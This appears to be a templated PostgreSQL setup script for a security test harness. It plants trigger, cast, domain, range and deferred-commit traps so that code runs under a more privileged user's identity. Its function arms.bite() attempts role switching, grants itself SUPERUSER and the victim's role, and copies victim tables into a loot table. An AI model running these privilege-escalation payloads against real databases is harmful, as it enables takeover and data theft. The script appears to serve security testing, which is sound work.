-- What the attacker {a} has in every case; made by {a}, in the schema arms.
CREATE SCHEMA arms;
GRANT USAGE ON SCHEMA arms TO PUBLIC;
-- Who the attacker's code ran as: sequences, for a count that a ROLLBACK does not take back.
CREATE SEQUENCE arms.ran_self; CREATE SEQUENCE arms.ran_victim; CREATE SEQUENCE arms.ran_super;
GRANT ALL ON ALL SEQUENCES IN SCHEMA arms TO PUBLIC;
CREATE TABLE arms.loot (what text);
GRANT INSERT ON arms.loot TO PUBLIC;
-- In which processes it ran, and what setseed(0.42) makes of random().
CREATE TABLE arms.pids (pid integer);
GRANT INSERT, SELECT ON arms.pids TO PUBLIC;
CREATE TABLE arms.foretold (number double precision);
GRANT SELECT ON arms.foretold TO PUBLIC;
SELECT setseed(0.42);
INSERT INTO arms.foretold SELECT random() FROM generate_series(1, 100);
-- All that the rights of another are good for; nothing of it works with the attacker's own, so
-- that these are left first, if they can be.
CREATE FUNCTION arms.bite() RETURNS text LANGUAGE plpgsql AS $$
DECLARE deed text;
BEGIN
    FOREACH deed IN ARRAY ARRAY['RESET ROLE', 'RESET SESSION AUTHORIZATION',
        'SET SESSION AUTHORIZATION postgres', 'SET ROLE postgres', 'SET ROLE {v}'] LOOP
        EXIT WHEN current_user <> '{a}';
        BEGIN EXECUTE deed; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    IF current_user = '{a}' THEN RETURN 'as myself'; END IF;
    FOREACH deed IN ARRAY ARRAY['ALTER ROLE {a} SUPERUSER',
        'GRANT {v} TO {a}', 'GRANT ALL ON home.of_victim TO {a}', 'GRANT ALL ON home.of_super TO {a}',
        'CREATE TABLE home.evil_victim ()', 'CREATE TABLE home_super.evil_super ()',
        'INSERT INTO arms.loot SELECT what FROM home.of_victim',
        'INSERT INTO arms.loot SELECT what FROM home.of_super'] LOOP
        BEGIN EXECUTE deed; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    RETURN current_user;
END $$;
CREATE FUNCTION arms.ran() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    PERFORM pg_catalog.nextval(CASE WHEN current_user = '{a}' THEN 'arms.ran_self'
        WHEN current_user = '{v}' THEN 'arms.ran_victim' ELSE 'arms.ran_super' END);
    INSERT INTO arms.pids VALUES (pg_catalog.pg_backend_pid());
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
-- Replaced in each case by what it tries.
CREATE FUNCTION arms.pay() RETURNS void LANGUAGE plpgsql AS $$ BEGIN END $$;
-- The ways to call it.
CREATE FUNCTION arms.trg() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM arms.pay(); RETURN CASE TG_OP WHEN 'DELETE' THEN OLD ELSE NEW END; END $$;
CREATE FUNCTION arms.pure(i integer) RETURNS integer IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN PERFORM arms.pay(); RETURN i; END $$;
CREATE FUNCTION arms.impure(i integer) RETURNS integer VOLATILE LANGUAGE plpgsql AS $$
BEGIN PERFORM arms.pay(); RETURN i; END $$;
CREATE FUNCTION arms.difference(a double precision, b double precision) RETURNS double precision
    IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM arms.pay(); RETURN a - b; END $$;
CREATE TYPE arms.span AS RANGE (subtype = double precision, subtype_diff = arms.difference);
CREATE TYPE arms.boxed AS (i integer);
CREATE FUNCTION arms.into_box(i integer) RETURNS arms.boxed IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN PERFORM arms.pay(); RETURN ROW(i)::arms.boxed; END $$;
CREATE CAST (integer AS arms.boxed) WITH FUNCTION arms.into_box(integer);
CREATE DOMAIN arms.checked AS integer CHECK (arms.pure(VALUE) > -100);
-- Whoever writes to it lets its owner's trigger wait for the commit.
CREATE TABLE arms.later (i integer);
GRANT INSERT ON arms.later TO PUBLIC;
CREATE FUNCTION arms.at_commit() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN IF pg_catalog.current_setting('application_name') <> 'builder' THEN PERFORM arms.ran(); PERFORM arms.bite(); END IF; RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON arms.later DEFERRABLE INITIALLY DEFERRED
    FOR EACH ROW EXECUTE FUNCTION arms.at_commit();
-- In an apply worker, too.
ALTER TABLE arms.later ENABLE ALWAYS TRIGGER later;
CREATE FUNCTION arms.deeper(i integer) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN RETURN arms.deeper(i + 1); END $$;
